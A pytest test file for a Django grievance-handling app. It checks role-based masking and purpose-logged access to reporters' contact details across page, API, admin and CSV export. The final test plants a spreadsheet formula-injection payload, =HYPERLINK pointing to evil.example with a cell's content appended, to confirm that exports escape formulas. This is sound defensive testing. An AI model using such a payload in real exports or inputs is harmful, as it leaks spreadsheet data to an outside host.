"""Each role × each surface (page, API, admin, export, websocket) shows the reporter's contact exactly as its
labels allow: in clear only to those holding `grievances.view_reporter_contact`, and only when they ask with
a purpose (logged); masked to the rest of the report's handlers; nothing to everyone else."""

from __future__ import annotations

import pytest

from apps.core.models import AuditLog
from tests.conftest import PASSWORD
from tests.grievances.conftest import EMAIL, NAME, PHONE

MASKED_PHONE = f"{PHONE[:3]}****{PHONE[-4:]}"
MASKED_NAME = NAME[0] + "*" * (len(NAME) - 1)
ROLES = ["admin", "command", "officer", "staff", "steward", "clerk"]


@pytest.fixture
def clerk(cast):
    """Department staff who handle reports but may not read reporters' contacts."""
    from django.contrib.auth.models import Permission

    from apps.accounts.services import staff_user_upsert

    user = staff_user_upsert(username="clerk", password=PASSWORD, roles=[], department_codes=["urban"])
    user.user_permissions.add(Permission.objects.get(codename="handle_grievance"))
    return user


def shown(response) -> str:
    if response.status_code in (302, 401, 403, 404):
        return "refused"
    body = response.content.decode()
    if PHONE in body or NAME in body or EMAIL in body:
        return "clear"
    if MASKED_PHONE in body and MASKED_NAME in body:
        return "masked"
    return "absent"


def surfaces(client, code: str, pk: int) -> dict[str, str]:
    purpose = {"purpose": "callback"}
    return {
        "page": shown(client.get(f"/grievances/workbench/{code}/")),
        "page+purpose": shown(client.post(f"/grievances/workbench/{code}/contact", purpose)),
        "api": shown(client.get("/api/v1/grievances/")),
        "api+purpose": shown(
            client.post(f"/api/v1/grievances/{code}/contact", purpose, content_type="application/json")
        ),  # fmt: skip
        "admin": shown(client.get(f"/admin/grievances/grievance/{pk}/change/")),
        "export": shown(client.get("/grievances/workbench/export.csv?state=all")),
        "export+purpose": shown(client.post("/grievances/workbench/export.csv?state=all", purpose)),
    }


EXPECTED = {
    # superusers hold every permission: masked by default, in clear when they ask with a purpose
    "admin": {"page": "masked", "page+purpose": "clear", "api": "masked", "api+purpose": "clear",
              "admin": "masked", "export": "masked", "export+purpose": "clear"},
    "staff": {"page": "masked", "page+purpose": "clear", "api": "masked", "api+purpose": "clear",
              "admin": "refused", "export": "masked", "export+purpose": "clear"},
    "clerk": {"page": "masked", "page+purpose": "refused", "api": "masked", "api+purpose": "refused",
              "admin": "refused", "export": "masked", "export+purpose": "refused"},
    **{role: dict.fromkeys(["page", "page+purpose", "api", "api+purpose", "admin", "export", "export+purpose"],
                           "refused") for role in ("command", "officer", "steward")},
}  # fmt: skip


@pytest.mark.parametrize("role", ROLES)
def test_each_role_on_each_surface_sees_what_the_labels_allow(client, submit, cast, clerk, role):
    report = submit()
    client.login(username=role, password=PASSWORD)

    seen = surfaces(client, report.tracking_code, report.pk)

    assert seen == EXPECTED[role]
    reads = AuditLog.objects.filter(action__in=["grievances.grievance.read_personal",
                                                "grievances.grievance.export_personal"])  # fmt: skip
    clear = [surface for surface, value in seen.items() if value == "clear"]
    assert reads.count() == len(clear)  # every reading in clear is on record …
    assert all(entry.data["purpose"] == "callback" for entry in reads)  # … with its purpose
    assert all(entry.actor.username == role for entry in reads)


def test_asking_without_a_purpose_shows_nothing(client, submit, cast):
    report = submit()
    client.login(username="staff", password=PASSWORD)

    page = client.post(f"/grievances/workbench/{report.tracking_code}/contact", {"purpose": "other", "detail": ""})
    api = client.post(f"/api/v1/grievances/{report.tracking_code}/contact", {}, content_type="application/json")
    export = client.post("/grievances/workbench/export.csv?state=all", {"purpose": ""})

    assert (page.status_code, api.status_code, export.status_code) == (400, 400, 400)
    assert all(PHONE not in r.content.decode() for r in (page, api, export))
    assert "purpose" in api.json()["errors"]
    assert not AuditLog.objects.filter(action__endswith="_personal").exists()


def test_an_export_never_hands_a_spreadsheet_a_formula(client, submit, cast):
    submit(reporter_name='=HYPERLINK("http://evil.example/?"&A1,"点我")')
    client.login(username="staff", password=PASSWORD)

    export = client.post("/grievances/workbench/export.csv?state=all", {"purpose": "callback"}).content.decode()

    assert "'=HYPERLINK(" in export
    assert ",=HYPERLINK(" not in export
